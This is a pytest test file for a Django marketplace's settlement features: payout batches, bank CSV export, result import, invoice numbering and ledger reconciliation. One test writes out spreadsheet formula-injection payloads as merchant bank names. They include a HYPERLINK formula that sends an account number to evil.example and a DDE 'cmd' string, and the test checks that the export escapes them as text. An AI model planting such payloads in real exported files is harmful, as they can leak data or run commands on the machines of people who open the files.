import csv
import io
from decimal import Decimal
from io import StringIO

import pytest
from django.core.management import call_command
from django.utils import timezone, translation

from marketplace.errors import ConflictError
from merchants.models import Merchant
from settlements import selectors, services
from settlements.models import Invoice, JournalEntry, Payout, Statement
from tests.factories import UserFactory
from tests.settlements.test_runs import Shop, _settle, at

pytestmark = pytest.mark.django_db


def _approved(count=2):
    shops = [Shop() for _ in range(count)]
    for n, shop in enumerate(shops):
        shop.completed_order([("100.00", n + 1)], placed=at(2026, 10, 1), completed=at(2026, 10, 2))
    _settle("2026-10", now=at(2026, 11, 2))
    approver = UserFactory(is_staff=True, email="approver@example.com")
    for statement in Statement.objects.order_by("merchant_id"):
        services.statement_approve(statement=statement, actor=approver)
    return shops, approver


def test_batch_export_paid_and_failed_payouts():
    _shops, approver = _approved()
    payer = UserFactory(is_staff=True, email="payer@example.com")
    batch = services.payout_batch_create(actor=payer)
    payouts = list(batch.payouts.order_by("id"))
    assert [p.amount for p in payouts] == [Decimal("103.00"), Decimal("198.00")]  # goods + 8 − 5 %
    with pytest.raises(ConflictError) as info:
        services.payout_batch_create(actor=payer)  # nothing left to pay
    assert info.value.code == "nothing_to_pay"

    rows = list(csv.DictReader(io.StringIO(services.payout_batch_csv(batch=batch, actor=payer))))
    assert [r["account_number"] for r in rows] == ["6222021234567890", "6222021234567890"]
    assert [r["amount"] for r in rows] == ["103.00", "198.00"]

    with pytest.raises(ConflictError) as info:
        services.payout_mark_paid(payout=payouts[0], actor=approver, bank_reference="X")
    assert info.value.code == "segregation_of_duties"
    assert Payout.objects.get(pk=payouts[0].pk).status == "pending"

    services.payout_mark_paid(payout=payouts[0], actor=payer, bank_reference="BANK-1")
    services.payout_mark_failed(payout=payouts[1], actor=payer, reason="Account closed")
    statements = list(Statement.objects.order_by("merchant_id").values_list("status", flat=True))
    assert statements == ["paid", "approved"]
    # The failed one is still owed: a new batch picks it up.
    retry = services.payout_batch_create(actor=payer)
    assert list(retry.payouts.values_list("statement_id", flat=True)) == [payouts[1].statement_id]
    out = StringIO()
    call_command("verify_ledger", stdout=out)
    # 2 statements; 2 payouts sent, one paid, one failed (reversed); the retry sent again;
    # posted by the command first: the 2 shops' captures and deposits.
    assert out.getvalue().startswith("ok (11 entries")


def test_batch_references_are_the_date_and_the_next_sequence_value():
    """Before, the time to the second and four random hex digits: two batches in one second
    could collide. From a sequence they cannot; each payout adds its position."""
    _approved(count=1)
    payer = UserFactory(is_staff=True, email="payer@example.com")
    batch = services.payout_batch_create(actor=payer)
    day = timezone.localdate().strftime("%Y%m%d")
    assert batch.reference == f"PB{day}{int(batch.reference[10:]):08d}"
    assert list(batch.payouts.values_list("reference", flat=True)) == [f"{batch.reference}-00001"]


def test_the_bank_file_writes_formulas_in_names_as_text_and_amounts_as_numbers():
    shops, _approver = _approved()
    payee = '=HYPERLINK("https://evil.example/?acct="&D2,"Verify")'
    Merchant.objects.filter(pk=shops[0].merchant.pk).update(bank_account_name=payee, bank_name="@SUM(1+1)")
    Merchant.objects.filter(pk=shops[1].merchant.pk).update(bank_account_name="-2+3", bank_name="\tcmd|' /C calc'!A0")
    payer = UserFactory(is_staff=True)
    batch = services.payout_batch_create(actor=payer)
    first, second = batch.payouts.order_by("id")
    content = services.payout_batch_csv(batch=batch, actor=payer)
    assert list(csv.reader(io.StringIO(content))) == [
        ["reference", "payee", "bank", "account_number", "amount", "period"],
        [first.reference, "'" + payee, "'@SUM(1+1)", "6222021234567890", "103.00", "2026-10"],
        [second.reference, "'-2+3", "'\tcmd|' /C calc'!A0", "6222021234567890", "198.00", "2026-10"],
    ]
    # No cell of the file starts a formula.
    cells = [cell for row in csv.reader(io.StringIO(content)) for cell in row]
    assert not [cell for cell in cells if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}]


def test_bank_result_file_is_all_or_nothing():
    _shops, _approver = _approved()
    payer = UserFactory(is_staff=True)
    batch = services.payout_batch_create(actor=payer)
    first, second = batch.payouts.order_by("id")
    bad = f"reference,status,bank_reference,reason\n{first.reference},paid,B1,\n{second.reference},failed,,\n"
    with translation.override("en"):
        result = services.payout_results_import(batch=batch, actor=payer, data=bad.encode())
    assert result.errors == ["line 3: a failed payment needs a reason"]
    assert set(batch.payouts.values_list("status", flat=True)) == {"pending"}
    good = (
        f"reference,status,bank_reference,reason\n{first.reference},paid,B1,\n{second.reference},failed,,Wrong name\n"
    )
    result = services.payout_results_import(batch=batch, actor=payer, data=good.encode())
    assert (result.applied, result.errors) == (2, [])
    assert list(batch.payouts.order_by("id").values_list("status", flat=True)) == ["paid", "failed"]


def test_invoices_are_numbered_without_gaps():
    _shops, approver = _approved(count=3)
    numbers = [
        services.invoice_issue(statement=s, actor=approver).number for s in Statement.objects.order_by("merchant_id")
    ]
    year = numbers[0][3:7]
    assert numbers == [f"INV{year}000001", f"INV{year}000002", f"INV{year}000003"]
    # Issuing again returns the same invoice.
    assert (
        services.invoice_issue(statement=Statement.objects.order_by("merchant_id").first(), actor=approver).number
        == numbers[0]
    )
    assert list(Invoice.objects.order_by("number").values_list("commission", flat=True)) == [
        Decimal("5.00"),
        Decimal("10.00"),
        Decimal("15.00"),
    ]


def test_reconciliation_is_clean_then_reports_a_difference(capsys):
    _approved(count=1)
    services.ledger_post_pending()  # the capture and the deposit, as the beat posts them
    report = selectors.reconcile(period="2026-10")
    assert report.ok, report.sections
    assert report.sections["payments"]["captured"] == Decimal("108.00")
    call_command("reconcile", "--period", "2026-10")
    assert capsys.readouterr().out.strip().endswith("ok")
    # A statement whose payable no longer matches its posting is reported.
    Statement.objects.update(payable=Decimal("1.00"))
    report = selectors.reconcile(period="2026-10")
    assert report.sections["ledger"]["differences"][0]["ledger"] == Decimal("103.00")
    with pytest.raises(SystemExit):
        call_command("reconcile", "--period", "2026-10")
    assert JournalEntry.objects.count() == 3  # the statement, the capture, the deposit


@pytest.fixture
def _english():
    with translation.override("en"):
        yield


@pytest.mark.usefixtures("_english")
def test_marking_paid_refuses_a_statement_no_longer_approved_and_changes_nothing():
    # The statement's own table guards its move to paid: a pending payout of a statement
    # that is not approved (here forced to paid behind the services' back) is refused whole.
    _approved(count=1)
    payer = UserFactory(is_staff=True, email="payer@example.com")
    payout = services.payout_batch_create(actor=payer).payouts.get()
    Statement.objects.filter(pk=payout.statement_id).update(status="paid")
    entries = JournalEntry.objects.count()
    with pytest.raises(ConflictError) as info:
        services.payout_mark_paid(payout=payout, actor=payer, bank_reference="BANK-1")
    assert (info.value.status_code, info.value.code, info.value.extra) == (
        409,
        "invalid_transition",
        {"status": "paid"},
    )
    assert str(info.value.message) == "Only an approved statement can be paid."
    payout.refresh_from_db()
    assert (payout.status, payout.bank_reference, payout.marked_by_id) == ("pending", "", None)
    assert JournalEntry.objects.count() == entries


@pytest.mark.usefixtures("_english")
def test_a_payout_is_marked_once():
    _approved(count=1)
    payer = UserFactory(is_staff=True, email="payer@example.com")
    payout = services.payout_batch_create(actor=payer).payouts.get()
    services.payout_mark_failed(payout=payout, actor=payer, reason="Account closed")
    entries = JournalEntry.objects.count()
    for mark in (
        lambda: services.payout_mark_paid(payout=payout, actor=payer, bank_reference="BANK-1"),
        lambda: services.payout_mark_failed(payout=payout, actor=payer, reason="Again"),
    ):
        with pytest.raises(ConflictError) as info:
            mark()
        assert (info.value.code, info.value.extra) == ("invalid_transition", {"status": "failed"})
        assert str(info.value.message) == "Only a payout sent to the bank can be marked."
    payout.refresh_from_db()
    assert (payout.status, payout.failure_reason, payout.bank_reference) == ("failed", "Account closed", "")
    assert Statement.objects.get(pk=payout.statement_id).status == "approved"
    assert JournalEntry.objects.count() == entries
